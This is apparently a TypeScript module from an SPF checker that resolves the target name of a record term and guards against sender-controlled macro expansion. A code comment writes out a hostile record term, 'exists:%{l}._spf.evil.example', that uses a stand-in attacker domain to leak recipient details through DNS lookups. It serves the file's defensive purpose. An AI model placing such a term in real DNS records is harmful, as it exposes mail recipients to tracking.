/** The name that a term is about: its domain-spec, expanded, or the domain in hand (RFC 7208 §4.8). */

import { isSevenBit } from '../bytes/ascii.ts';
import { normalizeName } from '../dns/answer.ts';
import { isAtOrUnder } from '../dns/names.ts';
import { type SpfContext, type SpfError, spfError } from './context.ts';
import type { MacroString } from './domain-spec.ts';
import { expandDomain, type MacroValues, usesLetter } from './macro.ts';
import { validatedNameFor } from './validated-names.ts';

/** Letters that hold the sender's local part. */
const LOCAL_PART_LETTERS = 'sl';

/** `name` null: the term matches nothing, because the local part cannot stand in a name (RFC 8616 §4). */
export type Target = { name: string | null; ofSender?: boolean } | { error: SpfError };

/**
 * @param spec null = the term names none
 * @param term as written, for an error
 * @param domain the domain whose record holds the term
 * @returns `ofSender`: the name lies where the client's own words say, so that neither its answers nor their absence are the domain's
 */
export async function targetName(
  context: SpfContext,
  spec: MacroString | null,
  term: string,
  domain: string,
): Promise<Target> {
  if (!spec) return { name: domain };
  if (usesLetter(spec, LOCAL_PART_LETTERS)) {
    if (!isSevenBit(context.subject.localPart)) return { name: null };
    // Attack: "exists:%{l}._spf.evil.example" makes the very question tell the sender's DNS who reads the message, and when.
    if (!context.subject.askLocalPart) {
      return { error: spfError('spf_temperror_local_part', term, domain) };
    }
  }
  const values = await macroValues(context, spec, domain);
  const name = expandDomain(spec, values);
  const isOwn = isAtOrUnder(normalizeName(name), normalizeName(context.subject.senderDomain));
  return { name, ofSender: !isOwn && endsInSendersWords(spec, values) };
}

/**
 * Whether a sender chooses the zone that the name lies in. The attack: of "a:%{h}", "include:%{p}" or "exists:%{ir}.%{v}.arpa" he names, by his greeting or by
 * the reverse zone of his own address (which a greeting can spell as well), a zone that answers as he likes, or never.
 */
function endsInSendersWords(spec: MacroString, values: MacroValues): boolean {
  const last = spec.findLastIndex((part) => 'letter' in part && SENDERS_LETTERS.includes(part.letter));
  if (last < 0) return false;
  // Behind the first dot: "%{h}legit.example" lies in a zone of another name.
  const [, ...labels] = expandDomain(spec.slice(last + 1), values)
    .toLowerCase()
    .split('.');
  return labels.length < 2 || labels.at(-1) === 'arpa';
}

/** Local part, address, name and greeting: a domain is named by "d" and "o", and whoever sends does not choose which he must speak for. */
const SENDERS_LETTERS = 'sliph';

/** What the macros of a text stand for; the client's name is looked up only when one of them wants it. */
export async function macroValues(context: SpfContext, parts: MacroString, domain: string): Promise<MacroValues> {
  const validatedName = usesLetter(parts, 'p') ? await validatedNameFor(context, domain) : 'unknown';
  return { ...context.subject, domain, validatedName };
}
